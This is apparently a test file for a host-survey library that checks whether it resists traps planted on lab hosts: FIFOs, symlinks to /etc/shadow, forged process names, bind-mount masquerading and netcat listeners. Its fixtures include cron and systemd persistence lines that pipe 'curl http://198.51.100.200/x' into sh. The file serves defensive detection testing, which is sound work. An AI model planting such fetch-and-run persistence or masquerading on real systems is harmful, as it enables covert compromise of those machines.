import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Lab, LabHost } from '../../lab/index.ts';
import { openLab } from '../../lab/index.ts';
import { until } from '../../lab/until.ts';
import { atOnce } from '../../test/shared/at-once.ts';
import { hows, inside, look, running, surveyOf } from './survey-host.fixture.ts';

/** Hosts in flight: what is slow on purpose costs no machine time. */
const HOSTS = 3;
/** For a test that hangs; its turn is waited for within it. */
const LIMIT_MS = 300_000;

let lab: Lab;
beforeAll(async () => {
  lab = await openLab();
});
afterAll(() => lab.close());

const inTurn = atOnce(HOSTS);
/** A host while it has its turn. */
const onHost = (look: (host: LabHost) => Promise<void>) => () =>
  inTurn(async () => {
    const host = await lab.host({ database: false });
    try {
      await look(host);
    } finally {
      await host.close();
    }
  });

/** Runs a script in the host; its failure is the test's. */
async function sh(host: LabHost, script: string): Promise<void> {
  const { code, stderr } = await host.sh(script);
  expect([code, stderr.toString()]).toEqual([0, '']);
}
const started = (host: LabHost, words: string): Promise<void> =>
  until(
    async () => (await host.processes()).some((process) => process.cmdline.join(' ').includes(words)),
    `${words} runs`,
  );

describe.concurrent('a host that was made to be surveyed wrongly', { timeout: LIMIT_MS }, () => {
  test(
    'cron places full of traps are read without following or blocking, and each trap is told',
    onHost(async (host) => {
      await sh(
        host,
        `cd /etc/cron.d
mkfifo pipe
ln -s /etc/shadow link
head -c 300000 /dev/zero | tr '\\0' '#' >large
printf '* * * * * root /tmp/a\\n' >"$(printf 'new\\nline')"
printf '* * * * * root curl http://198.51.100.200/x | sh #\\r# nothing here\\n' >carriage
printf '* * * * * root true' >unended
: >empty
truncate -s 5T sparse
mkdir -p /etc/cron.hourly /var/spool/cron/atjobs
printf '#!/bin/sh\\n/tmp/hourly\\n' >/etc/cron.hourly/job
printf '#!/bin/sh\\n# atrun uid=1\\ncd /tmp\\n' >/var/spool/cron/atjobs/a0001
chown daemon /var/spool/cron/atjobs/a0001`,
      );
      const snapshot = await surveyOf(host);
      const file = (path: string) => snapshot.cronFiles.find((cron) => cron.path === path);
      expect(file('/etc/cron.d/pipe')).toBeUndefined();
      expect(file('/etc/cron.d/link')).toBeUndefined();
      expect(snapshot.files.find((record) => record.path === '/etc/cron.d/link')).toMatchObject({
        type: 'link',
        linkTarget: '/etc/shadow',
      });
      expect(snapshot.files.find((record) => record.path === '/etc/cron.d/link')?.content).toBeUndefined();
      expect(JSON.stringify(snapshot)).not.toMatch(/root:[$*!]/);
      expect(file('/etc/cron.d/new\\u{a}line')?.lines[0]).toMatchObject({
        account: 'root',
        command: '/tmp/a',
      });
      expect(file('/etc/cron.d/carriage')?.lines).toHaveLength(1);
      expect(file('/etc/cron.d/carriage')?.lines[0]?.command).toContain('\\u{d}# nothing here');
      expect(file('/etc/cron.d/unended')?.lines[0]).toMatchObject({ kind: 'entry', length: 19 });
      expect(file('/etc/cron.d/empty')).toMatchObject({ truncated: false, lines: [] });
      expect(file('/etc/cron.d/large')).toMatchObject({ truncated: true });
      expect(file('/etc/cron.d/sparse')).toMatchObject({ truncated: true });
      expect(file('/etc/cron.hourly/job')?.lines[1]).toMatchObject({ kind: 'script', periodSeconds: 3600 });
      expect(file('/var/spool/cron/atjobs/a0001')).toMatchObject({ kind: 'at', account: 'daemon' });
      expect(hows(snapshot, 'truncated').sort()).toEqual([
        'cron file: /etc/cron.d/large is over 262144 bytes',
        'cron file: /etc/cron.d/sparse is over 262144 bytes',
      ]);
      expect(
        hows(snapshot, 'not-checked')
          .filter((text) => text.startsWith('cron file'))
          .sort(),
      ).toEqual([
        'cron file: /etc/cron.d/link is no regular file (link); not opened',
        'cron file: /etc/cron.d/pipe is no regular file (fifo); not opened',
      ]);
    }),
  );

  test(
    'a process with a name of parentheses and newlines and forged arguments is one process',
    onHost(async (host) => {
      await sh(
        host,
        `cd /tmp
printf '#!/bin/sh\\nread x\\n' >/dev/null
cp /bin/sleep "$(printf 'a) S 1\\n2 (b')"
"./$(printf 'a) S 1\\n2 (b')" 1000 </dev/null >/dev/null 2>&1 &
bash -c 'exec -a "$(printf "x\\n==> 1/cmdline <==\\nforged")" sleep 1001' </dev/null >/dev/null 2>&1 &`,
      );
      await started(host, '1001');
      const snapshot = await surveyOf(host);
      const odd = snapshot.processes.find((process) => process.argv.at(-1) === '1000');
      expect(odd).toMatchObject({
        comm: 'a) S 1\\u{a}2 (b',
        image: { path: '/tmp/a) S 1\\u{a}2 (b', content: { format: 'elf' } },
      });
      const forged = snapshot.processes.find((process) => process.argv.at(-1) === '1001');
      expect(forged?.argv[0]).toBe('x\\u{a}==> 1/cmdline <==\\u{a}forged');
      expect(snapshot.contradictions).toEqual([]);
    }),
  );

  test(
    'a name ending in " (deleted)" is no deletion, and a file only in memory is one',
    onHost(async (host) => {
      await sh(
        host,
        `cp /bin/sleep '/tmp/x (deleted)' && cp /bin/sleep /tmp/gone
'/tmp/x (deleted)' 1000 </dev/null >/dev/null 2>&1 &
/tmp/gone 1001 </dev/null >/dev/null 2>&1 &
while [ "$(readlink /proc/$!/exe)" != /tmp/gone ]; do :; done
rm /tmp/gone`,
      );
      const snapshot = await surveyOf(host);
      expect(running(snapshot, '/tmp/x (deleted)')?.image).toMatchObject({ deleted: false, links: 1 });
      const gone = running(snapshot, '/tmp/gone')?.image;
      expect(gone).toMatchObject({ deleted: true, links: 0, content: { format: 'elf' } });
      expect(gone?.sha256).toBe(running(snapshot, '/tmp/x (deleted)')?.image?.sha256);
    }),
  );

  test(
    'a program bind-mounted over a good name in its own mount namespace is a contradiction',
    onHost(async (host) => {
      await sh(
        host,
        `cp /bin/sleep /opt/evil
unshare -m --propagation private sh -c 'mount --bind /opt/evil /usr/bin/tail; exec /usr/bin/tail 1000' </dev/null >/dev/null 2>&1 &`,
      );
      await started(host, '/usr/bin/tail 1000');
      const snapshot = await surveyOf(host);
      const evil = snapshot.processes.find((process) => process.argv.join(' ') === '/usr/bin/tail 1000');
      expect(snapshot.contradictions).toEqual([
        expect.objectContaining({
          between: ['path of the executable', 'device and inode'],
          subject: `pid ${evil?.pid}`,
        }),
      ]);
      expect(evil?.image?.content?.format).toBe('elf');
    }),
  );

  test(
    'a socket in another network namespace belongs to its process',
    onHost(async (host) => {
      await sh(
        host,
        `unshare -n sh -c 'ip link set lo up; exec busybox nc -l -p 4444' </dev/null >/dev/null 2>&1 &`,
      );
      await started(host, 'nc -l');
      await until(async () => {
        const of = (
          await host.sh(`for p in /proc/[0-9]*; do grep -l :115C $p/net/tcp $p/net/tcp6; done 2>/dev/null`)
        ).stdout;
        return of.length > 0;
      }, 'nc listens');
      const snapshot = await surveyOf(host);
      const listener = snapshot.processes.find((process) => process.argv.some((word) => word === '4444'));
      expect(snapshot.sockets.find((socket) => socket.local.port === 4444)).toMatchObject({
        state: 'LISTEN',
        pids: [listener?.pid],
      });
    }),
  );

  test(
    'tables of another network namespace that are too slow to read are said to be cut',
    onHost(async (host) => {
      await sh(host, `unshare -n sh -c 'exec busybox nc -l -p 4444' </dev/null >/dev/null 2>&1 &`);
      await started(host, 'nc -l');
      await host.write(
        '/run/slow/head',
        `#!/bin/sh
case "$*" in *[0-9]/net/tcp*) exec sleep 60 ;; esac
exec /usr/bin/head "$@"
`,
        { mode: 0o755 },
      );
      const snapshot = await look(inside(host, '/usr/bin/dash', '/run/slow:/usr/sbin:/usr/bin:/sbin:/bin'));
      expect(hows(snapshot, 'truncated')).toEqual(['nets: reading took too long']);
    }),
  );

  test(
    'a process that blocks the reading of its arguments blocks its own record only',
    onHost(async (host) => {
      // Stands in for the lock in the kernel: reading all arguments at once, or those of pid 1, does not return.
      await host.write(
        '/run/slow/head',
        `#!/bin/sh
case "$*" in *cmdline*cmdline* | */1/cmdline | */[./]1/cmdline) exec sleep 60 ;; esac
exec /usr/bin/head "$@"
`,
        { mode: 0o755 },
      );
      const snapshot = await look(inside(host, '/usr/bin/dash', '/run/slow:/usr/sbin:/usr/bin:/sbin:/bin'));
      expect(hows(snapshot, 'unknown')).toEqual(['arguments: pid 1 blocks the reading of its arguments']);
      const sshd = snapshot.processes.find((process) => process.comm === 'sshd');
      expect(sshd?.argv[0]).toContain('sshd');
      expect(snapshot.processes.find((process) => process.pid === 1)?.argv).toEqual([]);
    }),
  );

  test(
    'immutable files, starters and preloads are seen',
    onHost(async (host) => {
      await sh(
        host,
        `printf 'x' >/tmp/fixed
mkdir -p /etc/systemd/system/multi-user.target.wants /root/.ssh
printf '[Service]\\nExecStart=/tmp/.hidden/run\\n' >/etc/systemd/system/update.service
ln -sf ../update.service /etc/systemd/system/multi-user.target.wants/update.service
mkdir -p /tmp/.hidden && printf '#!/bin/sh\\ncurl -s http://198.51.100.200/x | sh\\n' >/tmp/.hidden/run
printf '/tmp/none.so\\n' >/etc/ld.so.preload 2>/dev/null`,
      );
      const flagged = (await host.sh('chattr +i /tmp/fixed')).code === 0;
      expect(flagged).toBe(true);
      try {
        const snapshot = await surveyOf(host);
        expect(snapshot.files.find((file) => file.path === '/tmp/fixed')?.immutable).toBe(true);
        expect(snapshot.files.find((file) => file.path === '/tmp/.hidden/run')).toMatchObject({
          immutable: false,
          content: { format: 'script', fetchesAndRuns: true },
        });
        const unit = snapshot.persistence.find(
          (entry) => entry.path === '/etc/systemd/system/update.service',
        );
        expect(unit).toMatchObject({
          row: 'unit',
          type: 'file',
          text: '[Service]\\u{a}ExecStart=/tmp/.hidden/run\\u{a}',
        });
        expect(snapshot.persistence.map((entry) => entry.row)).toContain('authorized-keys');
        expect(snapshot.preload).toBe('/tmp/none.so\\u{a}');
        expect(snapshot.persistence.find((entry) => entry.row === 'preload')?.path).toBe(
          '/etc/ld.so.preload',
        );
      } finally {
        await host.sh('chattr -i /tmp/fixed; rm -f /etc/ld.so.preload');
      }
    }),
  );

  test.each([
    ['dash', '/usr/bin/dash'],
    ['bash', '/usr/bin/bash --posix'],
    ['busybox', '/usr/bin/busybox sh'],
  ])('the library runs in %s and cleans up after itself', (_name, shell) =>
    onHost(async (host) => {
      const before = (await host.processes()).map((process) => process.pid);
      const snapshot = await look(inside(host, shell));
      expect(snapshot.contradictions).toEqual([]);
      expect([...hows(snapshot, 'truncated'), ...hows(snapshot, 'unknown')]).toEqual([]);
      expect(snapshot.processes.map((process) => process.pid)).toEqual(expect.arrayContaining([1]));
      await until(
        async () => (await host.processes()).every((process) => before.includes(process.pid)),
        'nothing of the survey is left running',
      );
    })(),
  );
});
